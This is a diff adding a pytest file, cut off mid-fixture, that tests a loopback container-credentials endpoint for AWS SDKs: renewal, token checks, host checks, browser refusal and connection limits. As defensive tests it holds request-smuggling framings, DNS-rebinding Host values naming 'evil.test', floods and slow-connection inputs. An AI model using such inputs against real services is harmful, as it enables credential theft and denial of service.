@@ -1,0 +1,1069 @@
+"""The container-credentials endpoint: read by SDKs, and by nobody else on the machine or in a browser."""
+
+from __future__ import annotations
+
+import ast
+import contextlib
+import http.server
+import json
+import os
+import queue
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import boto3
+import pytest
+
+from credhelper.credentials import Clocks, Credentials
+from credhelper.errors import RefusedError, UnreachableError
+from credhelper.run import credentials_server as endpoint_module
+from credhelper.run.credentials_server import HEAD_BYTES, MOST_CONNECTIONS, Endpoint
+
+import requirements
+from sandbox import until
+from sts import SOURCE_KEY_ID, SOURCE_SECRET
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+    from credhelper.agent.client import Wish
+
+    from sts import LoopbackSts
+
+MARKER = "MARKERofASecret"
+UNAUTHORIZED = b'{"code": "Unauthorized", "message": "the token is missing or wrong"}'
+
+
+class Bank:
+    """Where credentials come from, with a clock to turn; `get` is what an endpoint is given."""
+
+    def __init__(self, life: float = 900.0, account_id: str | None = "111122223333") -> None:
+        self.now = 1795331700.0
+        self.life = life
+        self.account_id = account_id
+        self.asked = 0
+        self.wishes: list[Wish] = []
+        self.error: Exception | None = None
+        self.gate = threading.Event()
+        self.gate.set()
+
+    def read_clocks(self) -> Clocks:
+        return Clocks(self.now)
+
+    def get(self, wish: Wish = "get") -> Credentials:
+        self.asked += 1
+        self.wishes.append(wish)
+        number = self.asked
+        assert self.gate.wait(20)
+        if self.error is not None:
+            raise self.error
+        return Credentials(
+            access_key_id=f"ASIA{number}",
+            secret_access_key=MARKER,
+            session_token="token/+=",
+            expiration=int(self.now + self.life),
+            life=self.life,
+            skew=0.0,
+            minted=Clocks(self.now),
+            account_id=self.account_id,
+        )
+
+
+@pytest.fixture(name="bank")
+def _bank() -> Iterator[Bank]:
+    bank = Bank()
+    yield bank
+    bank.gate.set()
+
+
+@pytest.fixture(name="endpoint")
+def _endpoint(bank: Bank) -> Iterator[Endpoint]:
+    with Endpoint(bank.get(), bank.get, read_clocks=bank.read_clocks) as endpoint:
+        yield endpoint
+
+
+def _port(endpoint: Endpoint) -> int:
+    return int(endpoint.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"].split(":")[2].partition("/")[0])
+
+
+def _token(endpoint: Endpoint) -> str:
+    return endpoint.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
+
+
+def _connect(endpoint: Endpoint) -> socket.socket:
+    return socket.create_connection(("127.0.0.1", _port(endpoint)), timeout=10)
+
+
+def _head(
+    endpoint: Endpoint,
+    *more: str,
+    line: str = "GET /credentials HTTP/1.1",
+    host: str | None = None,
+    token: str | None = None,
+) -> bytes:
+    """A request that would be answered, but for what is said."""
+    host = f"127.0.0.1:{_port(endpoint)}" if host is None else host
+    token = _token(endpoint) if token is None else token
+    lines = [
+        line,
+        *([f"Host: {host}"] if host else []),
+        *([f"Authorization: {token}"] if token else []),
+        *more,
+    ]
+    return "".join(f"{each}\r\n" for each in [*lines, ""]).encode("latin-1")
+
+
+def _read(connection: socket.socket) -> tuple[int, dict[str, str], bytes]:
+    """Status, headers and body; status 0 where the connection was closed without a word."""
+    answer = b""
+    with contextlib.suppress(ConnectionError):
+        while block := connection.recv(65536):
+            answer += block
+    connection.close()
+    head, _, body = answer.partition(b"\r\n\r\n")
+    if not head:
+        return 0, {}, b""
+    first, *lines = head.decode("ascii").split("\r\n")
+    assert first.startswith("HTTP/1.1 ")
+    return int(first.split()[1]), {k.lower(): v for k, v in (line.split(": ", 1) for line in lines)}, body
+
+
+def _ask(endpoint: Endpoint, request: bytes | None = None) -> tuple[int, dict[str, str], bytes]:
+    connection = _connect(endpoint)
+    with contextlib.suppress(ConnectionError):
+        connection.sendall(_head(endpoint) if request is None else request)
+    return _read(connection)
+
+
+def _key(endpoint: Endpoint) -> str:
+    """The access key id that it hands out now."""
+    status, _, body = _ask(endpoint)
+    assert status == 200, body
+    return str(json.loads(body)["AccessKeyId"])
+
+
+class TestAnswer:
+    """What SDKs read."""
+
+    def test_the_document_is_the_container_form(self, endpoint: Endpoint) -> None:
+        """`Token`, not `SessionToken`; the expiration in the one form that every SDK parses."""
+        status, headers, body = _ask(endpoint)
+
+        assert status == 200
+        assert headers["content-type"] == "application/json"
+        assert json.loads(body) == {
+            "AccessKeyId": "ASIA1",
+            "SecretAccessKey": MARKER,
+            "Token": "token/+=",
+            "Expiration": "2026-11-22T07:30:00Z",
+            "AccountId": "111122223333",
+        }
+
+    def test_an_unknown_account_is_left_out(self) -> None:
+        """Rather than null, which some SDKs refuse."""
+        bank = Bank(account_id=None)
+        with Endpoint(bank.get(), bank.get, read_clocks=bank.read_clocks) as endpoint:
+            assert "AccountId" not in json.loads(_ask(endpoint)[2])
+
+    def test_nothing_may_keep_or_guess(self, endpoint: Endpoint) -> None:
+        """No cache, no sniffing, one answer a connection, and no word that lets another origin read."""
+        for request in (
+            None,
+            _head(endpoint, token="wrong"),
+            _head(endpoint, "Origin: http://x"),
+            b"x\r\n\r\n",
+        ):
+            _, headers, body = _ask(endpoint, request)
+
+            assert headers == {
+                "content-type": "application/json",
+                "content-length": str(len(body)),
+                "cache-control": "no-store",
+                "x-content-type-options": "nosniff",
+                "connection": "close",
+            }
+
+    def test_a_request_may_come_in_pieces(self, endpoint: Endpoint) -> None:
+        """And what is sent behind it is not answered."""
+        connection = _connect(endpoint)
+        request = _head(endpoint, "Accept: application/json", "Content-Length: 0")
+        for at in range(0, len(request), 25):
+            connection.sendall(request[at : at + 25])
+            time.sleep(0.005)
+
+        assert _read(connection)[0] == 200
+        assert _ask(endpoint, request * 3)[2].count(b"Token") == 1
+
+    def test_each_endpoint_has_its_own_token(self, bank: Bank, endpoint: Endpoint) -> None:
+        """Of 32 random bytes, and legal in a header."""
+        with Endpoint(bank.get(), bank.get) as other:
+            assert _token(other) != _token(endpoint)
+        assert len(_token(endpoint)) == 43
+        assert _token(endpoint).isprintable()
+
+    def test_it_is_gone_with_the_command(self, bank: Bank) -> None:
+        """No port, no thread, no descriptor is left, whoever is still connected."""
+        threads, descriptors = threading.active_count(), len(os.listdir("/proc/self/fd"))
+        with Endpoint(bank.get(), bank.get, read_clocks=bank.read_clocks) as endpoint:
+            connection = _connect(endpoint)
+            assert _key(endpoint) == "ASIA1"
+
+        assert connection.recv(1) == b""
+        connection.close()
+        with pytest.raises(ConnectionRefusedError):
+            _connect(endpoint)
+        assert threading.active_count() == threads
+        assert len(os.listdir("/proc/self/fd")) == descriptors
+
+
+class TestRenewal:
+    """Answers come from memory, and memory is renewed in time."""
+
+    def test_get_is_asked_once_while_fresh(self, bank: Bank, endpoint: Endpoint) -> None:
+        """However many ask."""
+        assert {_key(endpoint) for _ in range(50)} == {"ASIA1"}
+        bank.now += 200
+
+        assert _key(endpoint) == "ASIA1"
+        assert bank.asked == 1
+
+    @pytest.mark.alone
+    def test_it_is_renewed_ahead_of_need(self, bank: Bank, endpoint: Endpoint) -> None:
+        """The request that finds it due is not held up by the mint, nor is the next."""
+        bank.now += 900 - 680
+        bank.gate.clear()
+        for _ in range(3):
+            began = time.monotonic()
+            assert _key(endpoint) == "ASIA1"
+            assert time.monotonic() - began < endpoint_module.PATIENCE / 2
+        assert bank.wishes == ["get", "renew"]
+        bank.gate.set()
+
+        until(lambda: _key(endpoint) == "ASIA2")
+
+    def test_a_renewal_that_brings_nothing_is_not_repeated_at_once(
+        self, bank: Bank, endpoint: Endpoint
+    ) -> None:
+        """Somebody who asks a hundred times a second starts one attempt in half a minute."""
+        bank.now += 900 - 680
+        bank.error = UnreachableError("STS is down")
+        for _ in range(20):
+            assert _key(endpoint) == "ASIA1"
+        time.sleep(0.1)
+
+        assert bank.asked == 2
+
+    def test_below_fresh_a_request_waits_for_the_mint(self, bank: Bank, endpoint: Endpoint) -> None:
+        """All who ask meanwhile wait for the same one."""
+        bank.now += 900 - 500
+        bank.gate.clear()
+        connections = [_connect(endpoint) for _ in range(5)]
+        for connection in connections:
+            connection.sendall(_head(endpoint))
+        time.sleep(endpoint_module.PATIENCE / 4)
+        bank.gate.set()
+
+        assert {json.loads(_read(connection)[2])["AccessKeyId"] for connection in connections} == {"ASIA2"}
+        assert bank.wishes == ["get", "get"]
+
+    @pytest.mark.alone
+    def test_a_slow_mint_holds_nobody_up_while_the_old_ones_serve(
+        self, bank: Bank, endpoint: Endpoint
+    ) -> None:
+        """SDKs give up after a second: before that they get what is in memory."""
+        bank.now += 900 - 500
+        bank.gate.clear()
+        began = time.monotonic()
+
+        assert _key(endpoint) == "ASIA1"
+        assert endpoint_module.PATIENCE <= time.monotonic() - began < 1.0 + 0.5
+        bank.gate.set()
+        until(lambda: _key(endpoint) == "ASIA2")
+
+    def test_what_has_almost_expired_is_never_handed_out(
+        self, bank: Bank, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Below 60 s a request waits for the mint, and is told to come again where that takes too long."""
+        monkeypatch.setattr(endpoint_module, "STEP_SECONDS", 1.2)
+        bank.now += 900 - 59
+        bank.gate.clear()
+        status, _, body = _ask(endpoint)
+
+        assert (status, json.loads(body)) == (
+            503,
+            {"code": "Unreachable", "message": "no credentials yet: ask again"},
+        )
+        bank.gate.set()
+        until(lambda: _key(endpoint) == "ASIA2")
+
+    def test_a_failure_is_not_told_while_the_old_ones_serve(self, bank: Bank, endpoint: Endpoint) -> None:
+        """Nothing is withheld because a new one cannot be had."""
+        bank.error = UnreachableError("STS is down")
+        bank.now += 900 - 61
+
+        assert _key(endpoint) == "ASIA1"
+        assert bank.asked == 2
+
+    @pytest.mark.parametrize(
+        ("error", "status", "document"),
+        [
+            (UnreachableError("STS is down"), 503, {"code": "Unreachable", "message": "STS is down"}),
+            (
+                RefusedError("not allowed: 'x'", "ask \x1b[31m", "or wait", code="AccessDenied"),
+                400,
+                {"code": "AccessDenied", "message": "not allowed: 'x'; ask \\x1b[31m; or wait"},
+            ),
+            (
+                ValueError(MARKER),
+                400,
+                {"code": "Credhelper", "message": "internal error: ValueError"},
+            ),
+        ],
+    )
+    def test_a_failure_is_told_in_the_form_sdks_look_for(
+        self, bank: Bank, endpoint: Endpoint, error, status, document
+    ) -> None:
+        """5xx where asking again can help, for SDKs then do; and the next request tries anew."""
+        bank.error = error
+        bank.now += 900
+        for _ in range(2):
+            found, _, body = _ask(endpoint)
+            assert (found, json.loads(body)) == (status, document)
+        bank.error = None
+
+        assert _key(endpoint) == "ASIA4"
+
+    def test_min_remaining_is_the_profiles(self, bank: Bank) -> None:
+        """A profile may want newer ones sooner."""
+        with Endpoint(bank.get(), bank.get, min_remaining=300, read_clocks=bank.read_clocks) as endpoint:
+            bank.now += 900 - 400
+            assert _key(endpoint) == "ASIA1"
+            bank.now += 101
+
+            assert _key(endpoint) == "ASIA2"
+
+    def test_a_renewal_that_never_ends_is_not_waited_for(
+        self, bank: Bank, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """After a minute there may be another one; the lost one's outcome still counts, should it come."""
+        monkeypatch.setattr(endpoint_module, "LOST_SECONDS", 0.5)
+        bank.now += 900 - 100
+        bank.gate.clear()
+        assert _key(endpoint) == "ASIA1"
+        assert _key(endpoint) == "ASIA1"
+
+        assert bank.asked == 3
+
+    def test_a_client_that_leaves_makes_room(self, bank: Bank, endpoint: Endpoint) -> None:
+        """SDKs that gave up do not take the places of those who ask again."""
+        bank.now += 900
+        bank.gate.clear()
+        for _ in range(2 * MOST_CONNECTIONS):
+            connection = _connect(endpoint)
+            connection.sendall(_head(endpoint))
+            time.sleep(0.005)
+            connection.close()
+        until(lambda: not endpoint._connections, 2)
+        connection = _connect(endpoint)
+        connection.sendall(_head(endpoint))
+        until(lambda: any(each.is_waiting for each in list(endpoint._connections)))
+        bank.gate.set()
+
+        assert _read(connection)[0] == 200
+
+
+class TestAuthorization:
+    """Row S6: only who has the token."""
+
+    def test_all_failures_look_the_same(self, endpoint: Endpoint) -> None:
+        """Missing, wrong, cut, longer, twice, in another case or scheme, not ASCII, elsewhere: one answer."""
+        token, missing = _token(endpoint), _head(endpoint, token="")
+        requests = [
+            missing,
+            _head(endpoint, token="wrong"),
+            _head(endpoint, token=token[:-1]),
+            _head(endpoint, token=token[1:]),
+            _head(endpoint, token=token + "x"),
+            _head(endpoint, token=token.swapcase()),
+            _head(endpoint, token=f"Bearer {token}"),
+            _head(endpoint, token=f'"{token}"'),
+            _head(endpoint, token="\xe4\xf6\xfc\xff"),
+            _head(endpoint, token=token[:-1] + "\xe9"),
+            _head(endpoint, token="x" * 7000),
+            _head(endpoint, f"Authorization: {token}"),
+            _head(endpoint, "Authorization: wrong"),
+            _head(endpoint, f"Authorization: {token}", token="wrong"),
+            _head(endpoint, f"X-Authorization: {token}", f"Cookie: token={token}", token=""),
+            _head(endpoint, line=f"GET /credentials?token={token} HTTP/1.1", token=""),
+            _head(endpoint, line=f"GET /{token} HTTP/1.1", token=""),
+        ]
+        answers = [_ask(endpoint, request) for request in requests]
+
+        assert answers == [answers[0]] * len(requests)
+        assert answers[0][0] == 401
+        assert answers[0][2] == UNAUTHORIZED
+
+    def test_other_paths_have_nothing(self, endpoint: Endpoint) -> None:
+        """Even for who has the token."""
+        for path in ("/", "/credentials/", "/credentials?", "/credentials/../credentials", "//credentials"):
+            status, _, body = _ask(endpoint, _head(endpoint, line=f"GET {path} HTTP/1.1"))
+
+            assert (status, MARKER.encode() in body) == (404, False)
+
+    def test_the_token_is_only_compared_in_constant_time(self) -> None:
+        """In the source there is one comparison with it, by hmac.compare_digest, and no other."""
+        tree = ast.parse(Path(str(endpoint_module.__file__)).read_text(encoding="utf-8"))
+        secret = {"_token", "values", "token", "authorization"}
+        calls = [
+            ast.unparse(node)
+            for node in ast.walk(tree)
+            if isinstance(node, ast.Call)
+            and _mentions(node, {"_token"})
+            and "digest" in ast.unparse(node.func)
+        ]
+        compared = [
+            ast.unparse(node)
+            for node in ast.walk(tree)
+            if isinstance(node, (ast.Compare, ast.Match))
+            and any(_mentions(part, secret) and not _is_length(part) for part in ast.iter_child_nodes(node))
+        ]
+        methods = [
+            ast.unparse(node)
+            for node in ast.walk(tree)
+            if isinstance(node, ast.Attribute)
+            and node.attr in ("__eq__", "startswith", "endswith", "find", "index", "count")
+            and _mentions(node.value, secret)
+        ]
+
+        assert calls == ["hmac.compare_digest(values[0] if len(values) == 1 else b'', self._token)"]
+        assert (compared, methods) == ([], [])
+
+
+def _mentions(node: ast.AST, names: set[str]) -> bool:
+    return any(
+        (isinstance(each, ast.Name) and each.id in names)
+        or (isinstance(each, ast.Attribute) and each.attr in names)
+        or (isinstance(each, ast.Constant) and each.value in {name.encode() for name in names})
+        for each in ast.walk(node)
+    )
+
+
+def _is_length(node: ast.AST) -> bool:
+    return isinstance(node, ast.Call) and ast.unparse(node.func) == "len"
+
+
+class TestHost:
+    """Row S7: a page whose name was made to point here says its own name."""
+
+    @pytest.mark.parametrize(
+        "host",
+        [
+            "evil.test",
+            "evil.test:{port}",
+            "127.0.0.1",
+            "127.0.0.1:80",
+            "127.0.0.1:1{port}",
+            "127.0.0.1:{port}0",
+            "127.0.0.1:0{port}",
+            "127.0.0.1:{port}.evil.test",
+            "127.0.0.1.evil.test:{port}",
+            "127.0.0.1.:{port}",
+            "127.1:{port}",
+            "2130706433:{port}",
+            "0x7f.0.0.1:{port}",
+            "127.0.0.2:{port}",
+            "0.0.0.0:{port}",
+            "localhost:{port}",
+            "LOCALHOST:{port}",
+            "localhost:80",
+            "[::1]:{port}",
+            "[::ffff:127.0.0.1]:{port}",
+            "user@127.0.0.1:{port}",
+            "127.0.0.1:{port}, evil.test",
+            "127.0.0.1:{port}\x00",
+            "",
+        ],
+    )
+    def test_any_other_host_is_misdirected(self, endpoint: Endpoint, host: str) -> None:
+        """Even with the right token: 421, or 400 where it is no host at all."""
+        status, _, body = _ask(endpoint, _head(endpoint, host=host.format(port=_port(endpoint))))
+
+        assert status == (400 if host in ("", "127.0.0.1:{port}\x00") else 421)
+        assert MARKER.encode() not in body
+
+    def test_an_empty_host_or_none_is_misdirected(self, endpoint: Endpoint) -> None:
+        """HTTP/1.0 allows none."""
+        assert _ask(endpoint, _head(endpoint, "Host:", host=""))[0] == 421
+        assert _ask(endpoint, _head(endpoint, host="", line="GET /credentials HTTP/1.0"))[0] == 421
+
+    def test_two_hosts_are_none(self, endpoint: Endpoint) -> None:
+        """Whichever is right."""
+        ours = f"127.0.0.1:{_port(endpoint)}"
+
+        assert _ask(endpoint, _head(endpoint, "Host: evil.test"))[0] == 400
+        assert _ask(endpoint, _head(endpoint, f"Host: {ours}", host="evil.test"))[0] == 400
+        assert _ask(endpoint, _head(endpoint, f"Host: {ours}"))[0] == 400
+
+    @pytest.mark.parametrize("target", ["http://evil.test/credentials", "http://{ours}/credentials", "*"])
+    def test_an_absolute_target_is_misdirected(self, endpoint: Endpoint, target: str) -> None:
+        """We are nobody's proxy."""
+        line = f"GET {target.format(ours=f'127.0.0.1:{_port(endpoint)}')} HTTP/1.1"
+
+        assert _ask(endpoint, _head(endpoint, line=line))[0] == 421
+
+    def test_the_host_is_looked_at_before_the_token(self, endpoint: Endpoint) -> None:
+        """So that a page learns nothing about the token."""
+        right = _ask(endpoint, _head(endpoint, host="evil.test"))
+
+        assert right == _ask(endpoint, _head(endpoint, host="evil.test", token="wrong"))
+
+
+class TestBrowser:
+    """Row S8: nothing that a browser sends of itself gets an answer."""
+
+    @pytest.mark.parametrize(
+        "header",
+        [
+            "Origin: http://evil.test",
+            "Origin: null",
+            "Origin:",
+            "origin: http://127.0.0.1:{port}",
+            "Referer: http://evil.test/",
+            "Sec-Fetch-Site: cross-site",
+            "Sec-Fetch-Site: same-origin",
+            "Sec-Fetch-Mode: no-cors",
+            "sec-fetch-dest: image",
+            "SEC-FETCH-USER: ?1",
+        ],
+    )
+    def test_headers_of_browsers_are_refused(self, endpoint: Endpoint, header: str) -> None:
+        """With the right token, and with a wrong one all the same."""
+        header = header.format(port=_port(endpoint))
+        status, _, body = right = _ask(endpoint, _head(endpoint, header))
+
+        assert (status, json.loads(body)["code"]) == (403, "Forbidden")
+        assert right == _ask(endpoint, _head(endpoint, header, token="wrong"))
+
+    @pytest.mark.parametrize(
+        "method", ["POST", "PUT", "OPTIONS", "DELETE", "PATCH", "TRACE", "get", "CONNECT"]
+    )
+    def test_only_get(self, endpoint: Endpoint, method: str) -> None:
+        """A preflight is refused as any other, without a word of what would be allowed."""
+        asks = ["Access-Control-Request-Method: GET", "Access-Control-Request-Headers: authorization"]
+        status, headers, body = _ask(endpoint, _head(endpoint, *asks, line=f"{method} /credentials HTTP/1.1"))
+
+        assert (status, json.loads(body)["code"]) == (405, "MethodNotAllowed")
+        assert not [name for name in headers if name.startswith("access-control")]
+
+    def test_head_has_no_body(self, endpoint: Endpoint) -> None:
+        """And no credentials."""
+        status, _, body = _ask(endpoint, _head(endpoint, line="HEAD /credentials HTTP/1.1"))
+
+        assert (status, body) == (405, b"")
+
+
+class TestLimits:
+    """Row S9: large, slow and many."""
+
+    @pytest.mark.parametrize(
+        "body",
+        [
+            ("Content-Length: 1", b"x"),
+            ("Content-Length: 1000000000", b"x" * 100000),
+            ("Transfer-Encoding: chunked", b"3\r\nabc\r\n0\r\n\r\n"),
+            ("Transfer-Encoding: chunked\r\nContent-Length: 3", b"0\r\n\r\nGET"),
+            ("Content-Length: 3\r\nTransfer-Encoding: chunked", b"0\r\n\r\nGET"),
+            ("Content-Length: 1\r\nExpect: 100-continue", b""),
+        ],
+    )
+    def test_no_body_is_wanted(self, endpoint: Endpoint, body: tuple[str, bytes]) -> None:
+        """Nor read: 413, whatever it is framed as."""
+        header, content = body
+        status, _, said = _ask(endpoint, _head(endpoint, header) + content)
+
+        assert (status, json.loads(said)["code"]) == (413, "RequestTooLarge")
+
+    @pytest.mark.parametrize(
+        "header",
+        [
+            "Transfer-Encoding: gzip",
+            "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
+            "Content-Length: 0\r\nContent-Length: 5",
+            "Content-Length: -1",
+            "Content-Length: 0x0",
+            "Transfer-Encoding : chunked",
+            "X: a\r\n Y: folded\x00",
+            "X",
+        ],
+    )
+    def test_what_is_framed_badly_is_no_request(self, endpoint: Endpoint, header: str) -> None:
+        """Smuggling begins with two readings of one head."""
+        status, _, said = _ask(endpoint, _head(endpoint, header))
+
+        assert status in (400, 501)
+        assert json.loads(said)["code"] == "BadRequest"
+
+    @pytest.mark.parametrize(
+        "garbage", [b"\0" * 50 + b"\r\n\r\n", b"\x16\x03\x01\x02\x00\x01", b"hello\r\n\r\n"]
+    )
+    def test_what_is_no_http_is_no_request(self, endpoint: Endpoint, garbage: bytes) -> None:
+        """TLS, for example."""
+        connection = _connect(endpoint)
+        connection.sendall(garbage)
+        connection.shutdown(socket.SHUT_WR)
+
+        assert _read(connection)[0] in (0, 400)
+
+    def test_a_head_has_8_kib_at_most(self, endpoint: Endpoint) -> None:
+        """Up to the byte; one line, or many."""
+        for filler in ("X: {}", "{}: x"):
+            for size, expected in ((HEAD_BYTES, 200), (HEAD_BYTES + 1, 431), (60000, 431), (5_000_000, 431)):
+                empty = _head(endpoint, filler.format(""), "Z: ")
+                request = _head(endpoint, filler.format("y" * (size - len(empty) - 1)), "Z: z")
+                assert len(request) == size
+                status = _ask(endpoint, request)[0]
+
+                assert status == expected or (size > 60000 and status == 0)  # cut off while still sending
+
+    def test_a_flood_costs_no_memory(self, endpoint: Endpoint) -> None:
+        """A gigabyte is not taken: the connection is cut long before, and others do not notice."""
+        before, block = _resident(), b"x" * (1 << 20)
+        connection = _connect(endpoint)
+        connection.sendall(_head(endpoint, "Content-Length: 1000000000"))
+        sent = 0
+        with contextlib.suppress(ConnectionError):
+            while sent < 1000 << 20:
+                sent += connection.send(block)
+        connection.close()
+
+        assert sent < 50 << 20
+        assert _resident() - before < 10 << 20
+        assert _key(endpoint) == "ASIA1"
+
+    @pytest.mark.alone
+    def test_the_idle_do_not_keep_others_out(self, endpoint: Endpoint) -> None:
+        """300 connections that say nothing, or half of something: who asks is answered in 100 ms."""
+        idle = []
+        for number in range(300):
+            idle.append(_connect(endpoint))
+            if number % 2:
+                idle[-1].sendall(_head(endpoint)[: number % 60])
+        times = []
+        for _ in range(10):
+            began = time.monotonic()
+            assert _key(endpoint) == "ASIA1"
+            times.append(time.monotonic() - began)
+
+        assert len(endpoint._connections) <= MOST_CONNECTIONS
+        assert sorted(times)[5] < 0.1
+        for connection in idle:
+            connection.close()
+
+    def test_those_who_wait_for_credentials_keep_their_places(self, bank: Bank, endpoint: Endpoint) -> None:
+        """60 programs at once during a mint: no more than 16 are let in, and all are answered in turn."""
+        bank.now += 900
+        bank.gate.clear()
+        connections = []
+        for _ in range(60):
+            connections.append(_connect(endpoint))
+            connections[-1].sendall(_head(endpoint))
+        until(lambda: sum(each.is_waiting for each in list(endpoint._connections)) == MOST_CONNECTIONS)
+        time.sleep(0.1)
+        endpoint._wake()
+        time.sleep(0.1)
+        assert len(endpoint._connections) == MOST_CONNECTIONS
+        bank.gate.set()
+
+        assert [_read(connection)[0] for connection in connections] == [200] * 60
+        assert bank.asked == 2
+
+    def test_who_has_just_come_may_begin_in_peace(
+        self, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """On a busy machine many connect before the first of them gets to say anything."""
+        monkeypatch.setattr(endpoint_module, "GRACE", 1.0)
+        connections = [_connect(endpoint) for _ in range(MOST_CONNECTIONS + 5)]
+        time.sleep(0.2)
+        for connection in connections:
+            connection.sendall(_head(endpoint))
+
+        assert [_read(connection)[0] for connection in connections] == [200] * len(connections)
+
+    @pytest.mark.alone
+    def test_every_step_has_its_time(
+        self, bank: Bank, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Nothing sent: closed. Half a head, or a byte now and then: 408. Not leaving: closed."""
+        assert endpoint_module.STEP_SECONDS == 5.0
+        monkeypatch.setattr(endpoint_module, "STEP_SECONDS", 0.6)
+        began = time.monotonic()
+        silent, half, slow, staying = (_connect(endpoint) for _ in range(4))
+        half.sendall(b"GET /cred")
+        staying.sendall(_head(endpoint))
+        for byte in _head(endpoint)[:5]:
+            slow.sendall(bytes([byte]))
+            time.sleep(0.1)
+
+        assert _read(silent)[0] == 0
+        assert [_read(each)[0] for each in (half, slow)] == [408, 408]
+        until(lambda: not endpoint._connections, 3)
+        assert time.monotonic() - began < 3.0
+        staying.close()
+
+    def test_it_sleeps_while_nobody_asks(self, endpoint: Endpoint) -> None:
+        """No timer runs on an idle machine."""
+        assert _key(endpoint) == "ASIA1"
+        until(lambda: not endpoint._connections, 2)
+        assert endpoint._time_left() is None
+
+        connection = _connect(endpoint)
+        time.sleep(0.2)
+        assert (endpoint._time_left() or 0) > 3
+        connection.close()
+
+    def test_running_out_of_descriptors_is_survived(
+        self, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """It does not spin, and listens again after a second."""
+        monkeypatch.setattr(endpoint_module, "NO_DESCRIPTORS_SECONDS", 0.3)
+        tries, listener = [], endpoint._listener
+
+        class Starved:
+            def accept(self):
+                tries.append(1)
+                if len(tries) < 3:
+                    raise OSError(24, "Too many open files")
+                return listener.accept()
+
+            def fileno(self):
+                return listener.fileno()
+
+            close = listener.close
+
+        endpoint._selector.unregister(listener) if endpoint._is_accepting else None
+        endpoint._is_accepting = False
+        endpoint._listener = Starved()
+        endpoint._wake()
+        began = time.monotonic()
+
+        assert _key(endpoint) == "ASIA1"
+        assert len(tries) == 3
+        assert time.monotonic() - began > 0.5
+        assert endpoint._accept_again == 0
+
+    def test_a_defect_with_one_client_is_not_the_next_ones(
+        self, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """It hangs up on that one and goes on."""
+        with monkeypatch.context() as patch:
+            patch.setattr(endpoint, "_refusal", lambda _: 1 / 0)
+            assert _ask(endpoint)[0] == 0
+
+        assert _key(endpoint) == "ASIA1"
+
+
+def _resident() -> int:
+    return int(Path("/proc/self/statm").read_text().split()[1]) * 4096
+
+
+def _listening(port: int, table: str) -> list[str]:
+    rows = [row.split() for row in Path(f"/proc/net/{table}").read_text().splitlines()[1:]]
+    return [row[1] for row in rows if row[3] == "0A" and row[1].endswith(f":{port:04X}")]
+
+
+class TestPlace:
+    """Row S10: on loopback only."""
+
+    def test_it_listens_on_127_0_0_1_alone(self, endpoint: Endpoint) -> None:
+        """A port of the system's choosing, IPv4, one socket."""
+        port = _port(endpoint)
+
+        assert _listening(port, "tcp") == [f"0100007F:{port:04X}"]
+        assert _listening(port, "tcp6") == []
+
+    def test_the_command_does_not_inherit_it(self, endpoint: Endpoint) -> None:
+        """A command that goes on after us does not keep the port."""
+        assert not endpoint._listener.get_inheritable()
+
+    @pytest.mark.skipif(os.geteuid() != 0, reason="needs root to make a network namespace")
+    def test_another_network_cannot_connect(self, endpoint: Endpoint) -> None:
+        """A second network namespace reaches this machine, but not the endpoint."""
+        with _second_network() as (namespace, address), socket.socket() as open_to_all:
+            open_to_all.bind(("0.0.0.0", 0))
+            open_to_all.listen()
+
+            assert _connects(namespace, address, open_to_all.getsockname()[1])
+            assert not _connects(namespace, address, _port(endpoint))
+            assert not _connects(namespace, "127.0.0.1", _port(endpoint))
+
+
+@contextlib.contextmanager
+def _second_network() -> Iterator[tuple[str, str]]:
+    """A namespace with a cable to this one: its name, and our address at the near end."""
+    ip, name = requirements.program("ip"), f"ch{os.getpid()}"
+    third = os.getpid() % 250
+    steps = [
+        f"netns add {name}",
+        f"link add {name}a type veth peer name {name}b netns {name}",
+        f"addr add 10.213.{third}.1/30 dev {name}a",
+        f"link set {name}a up",
+        f"-n {name} addr add 10.213.{third}.2/30 dev {name}b",
+        f"-n {name} link set {name}b up",
+        f"-n {name} link set lo up",
+    ]
+    try:
+        for step in steps:
+            done = subprocess.run([ip, *step.split()], capture_output=True, text=True, check=False)
+            if done.returncode and step == steps[0]:
+                pytest.skip(f"no network namespaces here: {done.stderr.strip()}")
+            assert done.returncode == 0, (step, done.stderr)
+        yield name, f"10.213.{third}.1"
+    finally:
+        subprocess.run([ip, "netns", "del", name], capture_output=True, check=False)
+        subprocess.run([ip, "link", "del", f"{name}a"], capture_output=True, check=False)
+
+
+def _connects(namespace: str, address: str, port: int) -> bool:
+    program = f"import socket; socket.create_connection(({address!r}, {port}), timeout=5)"
+    command = [requirements.program("ip"), "netns", "exec", namespace, sys.executable, "-c", program]
+    return subprocess.run(command, capture_output=True, timeout=20, check=False).returncode == 0
+
+
+LOOP = """\
+import sys, time
+import boto3
+session = boto3.Session(region_name="eu-west-1")
+credentials = session.get_credentials()
+assert credentials.method == "container-role", credentials.method
+ends = time.monotonic() + float(sys.argv[1])
+while time.monotonic() < ends:
+    key_id, secret, token = credentials.get_frozen_credentials()[:3]
+    print(key_id, secret, token, credentials._expiry_time.timestamp() > time.time())
+    time.sleep(0.02)
+"""
+
+
+class TestClients:
+    """Real SDKs find it by the two variables alone."""
+
+    @pytest.fixture(name="minted")
+    def _minted(self, sts: LoopbackSts) -> Credentials:
+        """A session that the STS of our own knows."""
+        client = boto3.client(
+            "sts",
+            region_name="eu-west-1",
+            endpoint_url=sts.url,
+            aws_access_key_id=SOURCE_KEY_ID,
+            aws_secret_access_key=SOURCE_SECRET,
+        )
+        role = "arn:aws:iam::222233334444:role/Developer"
+        answer = client.assume_role(RoleArn=role, RoleSessionName="me")["Credentials"]
+        now = time.time()
+        return Credentials(
+            answer["AccessKeyId"],
+            answer["SecretAccessKey"],
+            answer["SessionToken"],
+            int(answer["Expiration"].timestamp()),
+            answer["Expiration"].timestamp() - now,
+            0.0,
+            Clocks(now),
